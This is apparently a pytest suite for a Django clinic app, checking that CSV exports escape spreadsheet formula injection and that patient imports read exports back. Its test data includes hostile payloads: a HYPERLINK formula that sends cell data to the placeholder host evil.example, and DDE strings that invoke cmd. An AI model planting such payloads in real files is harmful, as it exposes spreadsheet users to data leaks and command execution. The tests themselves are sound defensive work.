"""One escaping rule for every CSV the product writes: a cell a spreadsheet would run as a formula
is kept as text, numbers stay numbers, and the patient import reads its own exports back."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse

from clinic.audit import audit_record
from clinic.models import AuditEvent
from clinic.spreadsheet import csv_cell, csv_text, csv_uncell
from patients.imports import patients_import
from tests.factories import PatientFactory, TreatmentSessionFactory, UserFactory

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\n=1+1",
)


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: a formula start, also after leading whitespace, unless
    the whole cell is a plain number."""
    if re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)", cell):
        return False
    return cell.startswith(("\t", "\r")) or cell.lstrip().startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(value):
    assert runs_as_formula(value)
    assert csv_text(value) == "'" + value and not runs_as_formula(csv_text(value))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-2, -2),
        (-2.5, -2.5),
        (Decimal("-1.5"), Decimal("-1.5")),
        ("-2", "-2"),
        ("+3.5", "+3.5"),
        ("-.5", "-.5"),
        ("-1e5", "'-1e5"),
        ("+44 20 7946 0958", "'+44 20 7946 0958"),
        ("-", "'-"),
        (None, ""),
        (True, "yes"),
        ("Trapezius", "Trapezius"),
        ("", ""),
    ],
)
def test_numbers_stay_numbers_and_only_formula_text_is_escaped(value, written):
    assert csv_cell(value) == written


@pytest.mark.parametrize("value", [*HOSTILE, "plain", "-2", "'quoted already", "'=x"])
def test_the_import_reads_back_exactly_what_the_export_escaped(value):
    assert csv_uncell(csv_text(value)) == value


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_cell_runs(text: str) -> None:
    cells = [cell for row in _rows(text) for cell in row]
    running = [cell for cell in cells if runs_as_formula(cell)]
    assert not running, running


def _download(client, url, data=None) -> str:
    response = client.get(url, data or {})
    assert response.status_code == 200, response
    return b"".join(response.streaming_content).decode()


@pytest.mark.django_db
def test_a_hostile_request_id_is_replaced_and_a_plain_one_kept(client, manager):
    client.force_login(manager)

    hostile = client.get(reverse("home"), headers={"X-Request-ID": HOSTILE[0]})
    plain = client.get(reverse("home"), headers={"X-Request-ID": "edge-42.a_B"})
    too_long = client.get(reverse("home"), headers={"X-Request-ID": "a" * 65})

    assert re.fullmatch(r"[0-9a-f]{32}", hostile["X-Request-ID"])
    assert plain["X-Request-ID"] == "edge-42.a_B"
    assert re.fullmatch(r"[0-9a-f]{32}", too_long["X-Request-ID"])
    stored = set(AuditEvent.objects.values_list("request_id", flat=True))
    assert HOSTILE[0] not in stored and "edge-42.a_B" in stored


@pytest.mark.django_db
def test_the_audit_csv_escapes_every_cell_a_client_could_have_typed(client, manager, patient):
    for value in HOSTILE:
        # A failed sign-in stores the username as typed; a hostile request id is refused.
        client.post(
            reverse("login"), {"username": value, "password": "x"}, headers={"X-Request-ID": value}
        )
        audit_record(action=AuditEvent.Action.READ, actor_label=value, patient=patient)
    client.force_login(manager)

    text = _download(client, reverse("audit_report"), {"format": "csv"})

    assert "'=HYPERLINK" in text and "'-2+3+cmd" in text
    _no_cell_runs(text)


@pytest.mark.django_db
def test_the_patients_and_sessions_csv_escape_every_text_cell(client, manager, clinic_a):
    hostile_therapist = UserFactory(username="-evil")
    for value in HOSTILE:
        patient = PatientFactory(
            clinic=clinic_a,
            first_name=value,
            last_name=value,
            phone="+44 20 7946 0958",
            occupation=value,
        )
        TreatmentSessionFactory(
            patient=patient,
            therapist=hostile_therapist,
            subjective=value,
            objective=value,
            assessment=value,
            plan=value,
        )
    client.force_login(manager)

    for table in ("patients", "sessions"):
        text = _download(client, reverse("csv_export", args=[table]))
        assert "'=HYPERLINK" in text and "'+1+cmd" in text and "'@SUM" in text
        _no_cell_runs(text)
        for row in _rows(text)[1:]:
            assert re.fullmatch(r"\d+", row[0])  # the ids are still plain numbers


@pytest.mark.django_db
def test_the_export_command_writes_the_same_escaped_csv(clinic_a, tmp_path):
    PatientFactory(clinic=clinic_a, first_name="=1+1", last_name="-2+3")
    out = io.StringIO()

    call_command("export_csv", "patients", "--clinic", clinic_a.slug, stdout=out)

    assert "'=1+1" in out.getvalue() and "'-2+3" in out.getvalue()
    _no_cell_runs(out.getvalue())


@pytest.mark.django_db
def test_an_escaped_export_imports_back_with_the_names_unchanged(client, manager, clinic_a):
    PatientFactory(clinic=clinic_a, first_name="+Ana", last_name="-Rey")
    client.force_login(manager)
    text = _download(client, reverse("csv_export", args=["patients"]))

    report = patients_import(clinic=clinic_a, text=text, dry_run=True, actor_label="test")

    assert report.count("existing") == 1


def test_every_csv_the_product_writes_goes_through_the_one_helper():
    """csv.writer and browser-side CSV are written in exactly one module each; the demo seeder's
    COPY into PostgreSQL is data for the database, not a file a person opens."""
    allowed = {"clinic/spreadsheet.py", "demo/writer.py"}
    writers = {
        str(path.relative_to(ROOT))
        for folder in ("clinic", "patients", "sessions", "reports", "interop", "demo", "scripts")
        for path in (ROOT / folder).rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    }
    assert writers <= allowed, writers - allowed
    scripts = {
        path.name
        for path in (ROOT / "static" / "js").glob("*.js")
        if "text/csv" in path.read_text() or "createObjectURL" in path.read_text()
    }
    assert scripts == {"clinic.js"}, scripts  # the shared module's Clinic.csv
